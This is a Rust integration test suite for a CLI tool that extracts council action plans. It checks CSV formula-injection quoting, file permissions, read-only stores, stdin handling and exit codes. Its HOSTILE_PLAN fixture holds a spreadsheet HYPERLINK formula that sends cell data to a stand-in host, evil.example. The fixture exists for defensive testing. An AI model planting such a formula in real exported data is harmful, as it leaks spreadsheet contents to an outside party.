//! Issue 14: a command line that behaves like the tools analysts already
//! use (ripgrep, xsv, csvkit). Each test runs the real binary and names the
//! item of the issue it holds to account.

mod common;

use std::io::{BufRead as _, Read as _, Write as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use common::{actionplan, fixture, records, stderr};

const BIN: &str = env!("CARGO_BIN_EXE_actionplan");

/// An action plan whose cells are formulas, and whose first deadline has
/// two parts: what a hostile page on the web could hold.
const HOSTILE_PLAN: &str = r#"<html><body><h1>Testshire Council Peer Challenge Action Plan</h1>
<table>
<tr><th>Recommendation</th><th>Action</th><th>Lead</th><th>Deadline</th></tr>
<tr><td>1. Improve things</td><td>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</td>
    <td>@Director of Finance</td><td>a. Q2 2023 b. Q2 2024</td></tr>
<tr><td>2. Plan better</td><td>Write a plan for the council</td><td>Chief Executive</td><td>March 2024</td></tr>
</table></body></html>"#;

fn hostile_plan(dir: &Path) -> PathBuf {
    let path = dir.join("plan.html");
    std::fs::write(&path, HOSTILE_PLAN).unwrap();
    path
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Runs the binary with this standard input.
fn with_stdin(args: &[&str], input: &[u8]) -> std::process::Output {
    let mut child = Command::new(BIN)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_vec();
    let feeder = std::thread::spawn(move || {
        let _ = stdin.write_all(&input);
    });
    let out = child.wait_with_output().unwrap();
    feeder.join().unwrap();
    out
}

// 1. CSV formula injection.
#[test]
fn csv_cells_that_start_a_formula_are_quoted_unless_raw() {
    let dir = tempfile::tempdir().unwrap();
    let plan = hostile_plan(dir.path());
    let out = actionplan(&["extract", s(&plan), "-f", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let csv = text(&out.stdout);
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#),
        "{csv}"
    );
    assert!(csv.contains(",'@Director of Finance,"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",@Director"), "{csv}");
    // Text that merely contains the characters is left alone.
    assert!(csv.contains(",Write a plan for the council,"), "{csv}");
    let raw = text(&actionplan(&["extract", s(&plan), "-f", "csv", "--raw-csv"]).stdout);
    assert!(
        raw.contains(r#""=HYPERLINK("#) && raw.contains(",@Director of Finance,"),
        "{raw}"
    );
    // JSON stays raw.
    let json = records(&actionplan(&["extract", s(&plan)]));
    assert!(json[0]["action"]["text"].as_str().unwrap().starts_with("=HYPERLINK("));
    let help = text(&actionplan(&["extract", "--help"]).stdout);
    assert!(help.contains("--raw-csv") && help.contains("formula"), "{help}");
}

// 2. Output files: umask, an existing file's mode, symlinks, devices, -o -.
#[cfg(unix)]
#[test]
fn output_files_behave_like_a_shell_redirect() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    let good = fixture("harrow-2023/source.html");
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let in_shell = |umask: &str, out: &Path| {
        let status = Command::new("sh")
            .arg("-c")
            .arg(format!("umask {umask}; exec \"$0\" extract \"$1\" -o \"$2\""))
            .arg(BIN)
            .arg(&good)
            .arg(out)
            .status()
            .unwrap();
        assert!(status.success());
    };
    // A new file gets 0666 less the umask, as `>` would give it.
    let new = dir.path().join("new.csv");
    in_shell("002", &new);
    assert_eq!(mode(&new), 0o664);
    let private = dir.path().join("private.csv");
    in_shell("077", &private);
    assert_eq!(mode(&private), 0o600);
    // An existing file keeps its mode.
    let existing = dir.path().join("existing.jsonl");
    std::fs::write(&existing, "old\n").unwrap();
    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o640)).unwrap();
    in_shell("022", &existing);
    assert_eq!(mode(&existing), 0o640);
    assert_eq!(std::fs::read_to_string(&existing).unwrap().lines().count(), 14);
    // A symlink is followed and stays a link; --errors too.
    let target = dir.path().join("target.csv");
    std::fs::write(&target, "old").unwrap();
    let link = dir.path().join("link.csv");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let out = actionplan(&[
        "extract",
        s(&good),
        "-o",
        s(&link),
        "--errors",
        s(&dir.path().join("errors.jsonl")),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
    assert!(std::fs::read_to_string(&target).unwrap().starts_with("document_path,"));
    // A device is written in place: /dev/stdout is this process's pipe.
    let out = actionplan(&["extract", s(&good), "-o", "/dev/stdout"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(records(&out).len(), 14);
    let out = actionplan(&["extract", s(&good), "-o", "-", "-f", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(text(&out.stdout).lines().count(), 15);
    // As root, an existing file keeps its owner too.
    if unsafe { libc::geteuid() } == 0 {
        use std::os::unix::fs::MetadataExt as _;
        let theirs = dir.path().join("theirs.jsonl");
        std::fs::write(&theirs, "old\n").unwrap();
        std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).unwrap();
        in_shell("022", &theirs);
        let m = std::fs::metadata(&theirs).unwrap();
        assert_eq!((m.uid(), m.gid()), (65534, 65534));
        // A file the user may write in a folder they may not: in place.
        let locked = dir.path().join("locked");
        std::fs::create_dir(&locked).unwrap();
        let mine = locked.join("mine.jsonl");
        std::fs::write(&mine, "old\n").unwrap();
        std::os::unix::fs::chown(&mine, Some(65534), Some(65534)).unwrap();
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let out = as_reader(&["extract", s(&good), "-o", s(&mine)]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert_eq!(std::fs::read_to_string(&mine).unwrap().lines().count(), 14);
    }
    // No temporary file is ever left behind.
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// A store holding the hostile plan's records, made with the library.
fn store_with_records(path: &Path, plan: &Path) {
    use actionplan::store::{DocumentWrite, Store};
    let recs = actionplan::extract::extract_path(plan, &Default::default()).unwrap();
    let mut store = Store::open(path).unwrap();
    let run = store.begin_run(None).unwrap();
    let v = actionplan::fetch::Validators::default();
    let doc = DocumentWrite {
        url: "https://example.gov.uk/plan.html",
        council: "Testshire",
        source_url: "https://example.gov.uk/plan.html",
        final_url: "https://example.gov.uk/plan.html",
        sha256: "00",
        validators: &v,
    };
    store.apply_extraction(run, &doc, &recs).unwrap();
    store.finish_run(run, &Default::default()).unwrap();
}

/// The command run as a user who may only read (nobody, when the tests
/// run as root; file modes do the rest otherwise).
#[cfg(unix)]
fn as_reader(args: &[&str]) -> std::process::Output {
    let root = unsafe { libc::geteuid() } == 0;
    let mut cmd = if root {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", BIN]);
        c
    } else {
        Command::new(BIN)
    };
    cmd.args(args).current_dir("/").output().unwrap()
}

// 3. export and changes open the store read-only; a foreign database is refused.
#[cfg(unix)]
#[test]
fn reading_commands_read_a_store_they_may_not_write() {
    use std::os::unix::fs::PermissionsExt as _;
    if unsafe { libc::geteuid() } == 0 && Command::new("setpriv").arg("--version").output().is_err() {
        eprintln!("skipped: root without setpriv cannot be a read-only user");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let plan = hostile_plan(dir.path());
    let folder = dir.path().join("ro");
    std::fs::create_dir(&folder).unwrap();
    let db = folder.join("plans.db");
    store_with_records(&db, &plan);
    let before = std::fs::read(&db).unwrap();
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o444)).unwrap();
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o555)).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = as_reader(&["export", "--db", s(&db)]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(text(&out.stdout).lines().count(), 2);
    let out = as_reader(&["changes", "--db", s(&db), "-f", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(text(&out.stdout).contains("'=HYPERLINK"), "changes CSV is guarded too");
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(std::fs::read(&db).unwrap(), before, "not a byte written");
}

#[test]
fn a_database_that_is_not_a_store_is_refused_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("crm.sqlite");
    {
        let c = rusqlite::Connection::open(&db).unwrap();
        c.execute_batch(
            "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO customers (name) VALUES ('x');",
        )
        .unwrap();
    }
    let before = std::fs::read(&db).unwrap();
    for cmd in ["export", "changes"] {
        let out = actionplan(&[cmd, "--db", s(&db)]);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains("crm.sqlite") && err.contains("not an actionplan store"),
            "{err}"
        );
        assert!(err.contains("customers"), "{err}");
    }
    let sources = dir.path().join("sources.toml");
    std::fs::write(
        &sources,
        "[[source]]\ncouncil = \"X\"\nurl = \"http://127.0.0.1:9/x.html\"\n",
    )
    .unwrap();
    let out = actionplan(&["refresh", s(&sources), "--db", s(&db)]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("not an actionplan store"), "{}", stderr(&out));
    assert_eq!(std::fs::read(&db).unwrap(), before, "no tables of ours added");
    let c = rusqlite::Connection::open(&db).unwrap();
    let tables: i64 = c
        .query_row("SELECT count(*) FROM sqlite_master", [], |r| r.get(0))
        .unwrap();
    assert_eq!(tables, 1);
}

// 4. Standard input: `-`, and a pipe with no input named.
#[test]
fn standard_input_is_read_and_sniffed() {
    let html = std::fs::read(fixture("harrow-2023/source.html")).unwrap();
    for args in [&["extract", "-"][..], &["extract"][..]] {
        let out = with_stdin(args, &html);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let recs = records(&out);
        assert_eq!(recs.len(), 14);
        assert_eq!(recs[0]["document"]["path"], "-");
        assert_eq!(recs[0]["document"]["format"], "html");
    }
    let pdf = std::fs::read(fixture("harrow-2023/word.pdf")).unwrap();
    let out = with_stdin(&["extract", "-"], &pdf);
    assert_eq!(records(&out)[0]["document"]["format"], "pdf");
    let out = with_stdin(&["model", "-"], &html);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(serde_json::from_slice::<serde_json::Value>(&out.stdout).is_ok());
    let out = with_stdin(&["tables"], &html);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let tables: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!tables.as_array().unwrap().is_empty());
    let extracted = actionplan(&["extract", s(&fixture("harrow-2023/source.html"))]);
    let out = with_stdin(&["eval", s(&fixture("harrow-2023/gold.json")), "-"], &extracted.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(text(&out.stdout).contains("F1=1.00"), "{}", text(&out.stdout));
    // Nothing named and nothing piped (stdin is /dev/null): bad usage.
    let out = actionplan(&["extract"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("no input"), "{}", stderr(&out));
}

/// Runs a command, reads one line of its stdout, closes the pipe and
/// returns (exit code, stderr).
fn head_1(args: &[&str]) -> (Option<i32>, String) {
    let mut child = Command::new(BIN)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert!(!line.is_empty());
    // The reader goes away, as `head -1` does.
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    (child.wait().unwrap().code(), err)
}

// 5. A closed pipe ends the run quietly.
#[test]
fn a_closed_pipe_ends_the_run_quietly() {
    let fixtures = fixture("");
    let (code, err) = head_1(&["extract", s(&fixtures)]);
    assert_eq!((code, err.as_str()), (Some(0), ""));
    let (code, err) = head_1(&["model", s(&fixture("tower-hamlets-2024-04/word.pdf"))]);
    assert_eq!((code, err.as_str()), (Some(0), ""));
    let (code, err) = head_1(&["tables", s(&fixture("tower-hamlets-2024-04/word.pdf"))]);
    assert_eq!((code, err.as_str()), (Some(0), ""));
}

// 6. Streaming: the first document's records arrive while a later input is
// still being read (here a FIFO nobody has written to yet).
#[cfg(unix)]
#[test]
fn records_are_written_as_each_document_is_done() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("later.html");
    let c = std::ffi::CString::new(s(&fifo)).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let mut child = Command::new(BIN)
        .args(["extract", "-j", "2", s(&fixture("harrow-2023/source.html")), s(&fifo)])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut lines = std::io::BufReader::new(stdout).lines();
        let first = lines.next();
        let _ = tx.send(first.map(|l| l.unwrap()));
        lines.count()
    });
    let first = rx.recv_timeout(Duration::from_secs(60));
    // Let the run end whatever happened: feed the FIFO.
    std::fs::write(&fifo, HOSTILE_PLAN).unwrap();
    let status = child.wait().unwrap();
    let first = first
        .expect("the first record arrives before the last input is read")
        .unwrap();
    assert!(first.contains("harrow-2023/source.html"), "{first}");
    assert!(status.success());
}

// 7. Formats from -o's extension; unknown or contradicting ones refused.
#[test]
fn the_format_follows_the_output_name_or_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let good = fixture("harrow-2023/source.html");
    let csv = dir.path().join("a.CSV");
    assert_eq!(actionplan(&["extract", s(&good), "-o", s(&csv)]).status.code(), Some(0));
    assert!(std::fs::read_to_string(&csv).unwrap().starts_with("document_path"));
    let nd = dir.path().join("a.ndjson");
    assert_eq!(actionplan(&["extract", s(&good), "-o", s(&nd)]).status.code(), Some(0));
    assert_eq!(std::fs::read_to_string(&nd).unwrap().lines().count(), 14);
    let txt = dir.path().join("a.txt");
    let out = actionplan(&["extract", s(&good), "-o", s(&txt)]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("a.txt") && stderr(&out).contains("-f"),
        "{}",
        stderr(&out)
    );
    assert!(!txt.exists());
    let out = actionplan(&["extract", s(&good), "-o", s(&csv), "-f", "json"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("contradicts"), "{}", stderr(&out));
    // -f with an unknown extension is the user's explicit choice.
    let out = actionplan(&["extract", s(&good), "-o", s(&txt), "-f", "jsonl"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = actionplan(&["tables", s(&good), "-o", s(&dir.path().join("t.csv"))]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(std::fs::read_to_string(dir.path().join("t.csv"))
        .unwrap()
        .starts_with("#table,1"));
    let out = actionplan(&["changes", "--db", "x.db", "-o", "c.json"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
}

// 8. Messages: one cause, no temporary names, warnings in the errors'
// form, colour only when asked, -q silences all but errors.
#[test]
fn messages_have_one_form_one_cause_and_colour_only_when_asked() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing.txt");
    let empty_plan = dir.path().join("notes.txt");
    std::fs::write(&empty_plan, "Just a note, no actions here.\n").unwrap();
    let out = actionplan(&["extract", s(&missing), s(&empty_plan)]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        !err.contains("os error") && !err.contains("WARN") && !err.contains('\x1b'),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "actionplan: {}: No such file or directory\n",
            missing.display()
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!("actionplan: {}: no actions found", empty_plan.display())),
        "{err}"
    );
    let out = actionplan(&["-q", "extract", s(&missing), s(&empty_plan)]);
    let err = stderr(&out);
    assert!(
        err.contains("missing.txt") && !err.contains("no actions found"),
        "{err}"
    );
    let out = actionplan(&["--color", "always", "extract", s(&empty_plan)]);
    assert!(stderr(&out).contains("\x1b["), "{}", stderr(&out));
    let out = actionplan(&["--color", "never", "extract", s(&empty_plan)]);
    assert!(!stderr(&out).contains('\x1b'));
    let out = Command::new(BIN)
        .args(["extract", s(&empty_plan)])
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(!stderr(&out).contains('\x1b'));
}

// 9. Exit codes: a missing input is 1 in every command; listed in --help.
#[test]
fn a_missing_input_is_exit_1_in_every_command() {
    let missing = "/no/such/file.pdf";
    for args in [
        &["extract", missing][..],
        &["model", missing][..],
        &["tables", missing][..],
        &["eval", missing, missing][..],
        &["eval", s(&fixture("harrow-2023/gold.json")), missing][..],
    ] {
        let out = actionplan(args);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(missing), "{}", stderr(&out));
    }
    for cmd in ["extract", "model", "tables", "eval", "refresh", "changes", "export"] {
        let help = text(&actionplan(&[cmd, "--help"]).stdout);
        assert!(
            help.contains("Exit codes:") && help.contains("2  bad usage"),
            "{cmd}: {help}"
        );
    }
}

/// Serves each request with `body`, on a thread, until the test ends.
fn serve(body: Vec<u8>) -> String {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let url = format!("http://{}/plan.pdf", server.server_addr().to_ip().unwrap());
    std::thread::spawn(move || {
        for req in server.incoming_requests() {
            let resp = if req.url() == "/robots.txt" {
                tiny_http::Response::from_data(Vec::new()).with_status_code(404)
            } else {
                tiny_http::Response::from_data(body.clone())
            };
            let _ = req.respond(resp);
        }
    });
    url
}

// 10. model and tables take what extract takes.
#[test]
fn model_and_tables_take_passwords_urls_outputs_and_pages() {
    let locked = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/encrypted-user-password.pdf");
    let out = actionplan(&["model", s(&locked)]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("--password"), "{}", stderr(&out));
    let pdf = std::fs::read(fixture("fenwick-2024-11/word.pdf")).unwrap();
    let url = serve(pdf);
    let dir = tempfile::tempdir().unwrap();
    let model = dir.path().join("model.json");
    let out = actionplan(&["model", &url, "-o", s(&model), "--timeout", "60"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(serde_json::from_slice::<serde_json::Value>(&std::fs::read(&model).unwrap()).is_ok());
    let all: serde_json::Value = serde_json::from_slice(&actionplan(&["tables", &url]).stdout).unwrap();
    let pages: Vec<u64> = all
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["page"].as_u64())
        .collect();
    assert!(pages.iter().any(|&p| p > 1), "{pages:?}");
    let out = actionplan(&["tables", &url, "--pages", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let first: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let first = first.as_array().unwrap();
    assert!(!first.is_empty() && first.len() < pages.len());
    assert!(first.iter().all(|t| t["page"] == 1));
    assert_eq!(actionplan(&["tables", &url, "--pages", "0"]).status.code(), Some(2));
}

// 11. Stale text.
#[test]
fn help_and_readme_say_what_is_true() {
    let help = text(&actionplan(&["--help"]).stdout);
    assert!(!help.contains("to come"), "{help}");
    let refresh = text(&actionplan(&["refresh", "--help"]).stdout);
    for p in actionplan::sources::DEFAULT_LINK_PATTERNS {
        assert!(refresh.contains(&format!("{p:?}")), "{p} missing from refresh --help");
    }
    let dir = tempfile::tempdir().unwrap();
    let out = actionplan(&["extract", s(dir.path())]);
    for ext in [".pdf", ".docx", ".odt", ".html", ".htm", ".txt", ".md"] {
        assert!(stderr(&out).contains(ext), "{ext}: {}", stderr(&out));
    }
    let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    assert!(
        !readme.contains("`spec/deadlines.md`"),
        "the README points outside the repo"
    );
    for p in actionplan::sources::DEFAULT_LINK_PATTERNS {
        assert!(readme.contains(&format!("\"{p}\"")), "{p} missing from the README");
    }
}

// 12. Small wrong results.
#[test]
fn small_wrong_results_are_right() {
    let good = fixture("harrow-2023/source.html");
    let out = actionplan(&["extract", s(&good), "--council", ""]);
    assert_eq!(out.status.code(), Some(2), "an empty council is bad usage");
    // The same file through its folder and by name: read once.
    let folder = fixture("harrow-2023");
    let twice = records(&actionplan(&["extract", s(&folder), s(&good)]));
    let once = records(&actionplan(&["extract", s(&folder)]));
    assert_eq!(twice.len(), once.len());
    // A legacy .doc says so.
    let dir = tempfile::tempdir().unwrap();
    let doc = dir.path().join("plan.doc");
    let mut bytes = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    bytes.resize(4096, 0);
    std::fs::write(&doc, bytes).unwrap();
    let out = actionplan(&["extract", s(&doc)]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("legacy Word .doc"), "{}", stderr(&out));
    // --since in local time.
    let db = dir.path().join("plans.db");
    store_with_records(&db, &hostile_plan(dir.path()));
    let out = actionplan(&["changes", "--db", s(&db), "--since", "2000-01-01T14:55:00"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!text(&out.stdout).is_empty());
    let out = actionplan(&["changes", "--db", s(&db), "--since", "2999-01-01 09:00"]);
    assert_eq!((out.status.code(), out.stdout.len()), (Some(0), 0), "{}", stderr(&out));
    let out = actionplan(&["changes", "--db", s(&db), "--since", "soon"]);
    assert_eq!(out.status.code(), Some(2));
}

// 14. CSV keeps a multiple deadline's parts.
#[test]
fn csv_has_the_parts_of_a_multiple_deadline() {
    let dir = tempfile::tempdir().unwrap();
    let plan = hostile_plan(dir.path());
    let out = actionplan(&["extract", s(&plan), "-f", "csv"]);
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    let col = headers
        .iter()
        .position(|h| h == "deadline_parts")
        .expect("a deadline_parts column");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(&rows[0][col], "2023-04-01..2023-06-30; 2024-04-01..2024-06-30");
    assert_eq!(&rows[1][col], "");
}

// 15. eval scores the gold's own document out of a many-document file.
#[test]
fn eval_picks_the_gold_document_out_of_many() {
    let dir = tempfile::tempdir().unwrap();
    let all = dir.path().join("all.json");
    let out = actionplan(&[
        "extract",
        s(&fixture("harrow-2023/source.html")),
        s(&fixture("havering-2019/source.html")),
        "-o",
        s(&all),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = actionplan(&["eval", s(&fixture("harrow-2023/gold.json")), s(&all)]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let report = text(&out.stdout);
    assert!(report.contains("P=1.00 R=1.00 F1=1.00"), "{report}");
    assert!(!report.contains("spurious:"), "{report}");
    let out = actionplan(&[
        "eval",
        s(&fixture("harrow-2023/gold.json")),
        s(&all),
        "--document",
        "havering-2019/source.html",
        "--limit",
        "3",
    ]);
    let report = text(&out.stdout);
    assert_eq!(
        report.lines().filter(|l| l.starts_with("  spurious:")).count(),
        3,
        "{report}"
    );
    assert!(report.contains("more spurious"), "{report}");
}

// 13. Converted text: inline markup read as the HTML reader reads it,
// ordinals joined to their day, footnote references dropped.
#[test]
fn converter_markup_does_not_leak_into_records() {
    let recs = records(&actionplan(&["extract", s(&fixture("havering-2019/seed.txt"))]));
    let may = recs
        .iter()
        .find(|r| {
            r["deadline"]["raw"]
                .as_str()
                .is_some_and(|d| d.contains("May 2019 Cabinet"))
        })
        .expect("the Cabinet deadline");
    assert_eq!(may["deadline"]["raw"], "15th May 2019 Cabinet");
    assert_eq!(
        (may["deadline"]["start"].as_str(), may["deadline"]["end"].as_str()),
        (Some("2019-05-15"), Some("2019-05-15"))
    );
    for doc in [
        "havering-2019/seed.txt",
        "havering-2024-07/seed.txt",
        "havering-2024-07/source.html",
    ] {
        let out = actionplan(&["extract", s(&fixture(doc))]);
        let json = text(&out.stdout);
        assert!(!json.contains("<sup") && !json.contains("</sup>"), "{doc}");
        for r in records(&out) {
            let t = r["action"]["text"].as_str().unwrap();
            assert!(!t.contains("approval 27") && !t.contains("Freeport 28"), "{doc}: {t}");
        }
    }
}

/// Runs a shell command line under a pseudo-terminal (util-linux
/// `script`), so stderr is a terminal; None where `script` is missing.
fn on_a_terminal(command: &str) -> Option<Vec<u8>> {
    let out = Command::new("script")
        .args(["-qec", command, "/dev/null"])
        .stdin(Stdio::null())
        .output()
        .ok()?;
    out.status.success().then_some(out.stdout)
}

// 8. On a terminal: -v lines go above the progress bar, never on its
// line; -q shows neither the bar nor anything but errors.
#[cfg(unix)]
#[test]
fn verbose_lines_clear_the_bar_and_quiet_hides_it() {
    let run = format!(
        "{BIN} extract -v {} {} > /dev/null",
        s(&fixture("harrow-2023")),
        s(&fixture("havering-2019"))
    );
    let Some(shown) = on_a_terminal(&run) else {
        eprintln!("skipped: no util-linux script to make a terminal");
        return;
    };
    let text = text(&shown);
    assert!(
        text.contains('█') || text.contains('░'),
        "a bar on a terminal: {text:?}"
    );
    let lines: Vec<usize> = text.match_indices("actionplan:").map(|(i, _)| i).collect();
    assert!(lines.len() >= 12, "{text:?}");
    for i in lines {
        // Colour codes may come first; before them, the bar's line cleared
        // or a fresh line.
        let before = text[..i].trim_end_matches("\x1b[2m").trim_end_matches("\x1b[1;31m");
        assert!(
            before.is_empty() || before.ends_with('\n') || before.ends_with("\r\x1b[2K"),
            "a -v line printed over the bar: {:?}",
            &before[before.len().saturating_sub(40)..]
        );
    }
    let quiet = on_a_terminal(&format!("{BIN} -q extract {} > /dev/null", s(&fixture("harrow-2023")))).unwrap();
    assert_eq!(text_of(&quiet), "", "-q: no bar, no warnings");
}

fn text_of(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

// The anchors' extras: completions and man pages, store filters, a flat view.
#[test]
fn completions_man_pages_filters_and_a_flat_view() {
    let bash = actionplan(&["completions", "bash"]);
    assert_eq!(bash.status.code(), Some(0));
    assert!(text(&bash.stdout).contains("complete -F") && text(&bash.stdout).contains("--raw-csv"));
    let man = actionplan(&["man", "extract"]);
    assert_eq!(man.status.code(), Some(0));
    assert!(text(&man.stdout).contains(".TH actionplan-extract 1"));
    assert_eq!(actionplan(&["man", "nope"]).status.code(), Some(2));

    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("plans.db");
    store_with_records(&db, &hostile_plan(dir.path()));
    let only = |args: &[&str]| {
        let mut all = vec!["export", "--db", s(&db)];
        all.extend_from_slice(args);
        let out = actionplan(&all);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        records(&out).len()
    };
    assert_eq!(only(&[]), 2);
    assert_eq!(only(&["--council", "testshire"]), 2);
    assert_eq!(only(&["--council", "Harrow"]), 0);
    let changes = |args: &[&str]| {
        let mut all = vec!["changes", "--db", s(&db)];
        all.extend_from_slice(args);
        let out = actionplan(&all);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        text(&out.stdout).lines().count()
    };
    assert_eq!(
        changes(&["--run", "last", "--kind", "new", "--council", "Testshire"]),
        2
    );
    assert_eq!(changes(&["--kind", "gone,changed"]), 0);
    assert_eq!(changes(&["--run", "2"]), 0);
    assert_eq!(
        actionplan(&["changes", "--db", s(&db), "--run", "first"]).status.code(),
        Some(2)
    );
    let c = rusqlite::Connection::open(&db).unwrap();
    let (council, lead, end): (String, String, Option<String>) = c
        .query_row(
            "SELECT council, lead, deadline_end FROM current_records WHERE action_text LIKE 'Write%'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap();
    assert_eq!(
        (council.as_str(), lead.as_str(), end.as_deref()),
        ("Testshire", "Chief Executive", Some("2024-03-31"))
    );
}
